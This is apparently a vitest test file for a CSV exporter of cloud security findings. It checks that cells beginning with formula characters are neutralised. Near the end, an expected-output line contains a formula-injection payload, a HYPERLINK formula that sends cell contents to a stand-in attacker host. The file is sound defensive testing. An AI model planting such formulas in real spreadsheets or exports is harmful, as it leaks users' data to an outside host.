import { describe, it, expect } from 'vitest';
import { HOSTILE, sampleFindings } from '../testing.js';
import { CSV_COLUMNS, csvRow, writeCsv } from './csv.js';
import { neutralizeFormula } from './escape.js';
import { collectText } from './sink.js';

describe('neutralizeFormula', () => {
  it.each([HOSTILE.formula, HOSTILE.plus, HOSTILE.minus, HOSTILE.at, HOSTILE.tab, HOSTILE.leadingCr])(
    'prefixes %j with a quote',
    (s) => expect(neutralizeFormula(s)).toBe(`'${s}`),
  );

  it('leaves ordinary text alone', () => {
    expect(neutralizeFormula('arn:aws:iam::123456789012:user/alice')).toBe(
      'arn:aws:iam::123456789012:user/alice',
    );
    expect(neutralizeFormula('')).toBe('');
    expect(neutralizeFormula('a=b')).toBe('a=b');
  });
});

describe('csv', () => {
  it('writes a header and one row per finding, flattening actor, resources and mitre', async () => {
    const out = collectText();
    await writeCsv(sampleFindings(), out);
    const lines = out.text().trimEnd().split('\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines).toHaveLength(4);
    const row = csvRow(sampleFindings()[0]!);
    const col = (name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)];
    expect(col('principal')).toBe('arn:aws:iam::123456789012:user/alice');
    expect(col('count')).toBe(3);
    expect(col('eventNames')).toBe('StopLogging;DeleteTrail');
    expect(col('techniques')).toBe('T1562.008');
    expect(col('resourceTypes')).toBe('AwsCloudTrailTrail');
  });

  it('neutralises formula injection in every attacker-controlled cell', async () => {
    const [base] = sampleFindings();
    const f = {
      ...base!,
      title: HOSTILE.formula,
      description: HOSTILE.plus,
      actor: { principal: HOSTILE.at, userAgent: HOSTILE.tab, ip: HOSTILE.minus },
      resources: [{ type: 'AwsS3Bucket', id: HOSTILE.leadingCr }],
    };
    const row = csvRow(f);
    for (const cell of row) {
      if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const out = collectText();
    await writeCsv([f], out);
    // quoting keeps the embedded CR inside one cell, so the data still has exactly one record
    expect(out.text()).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  });
});
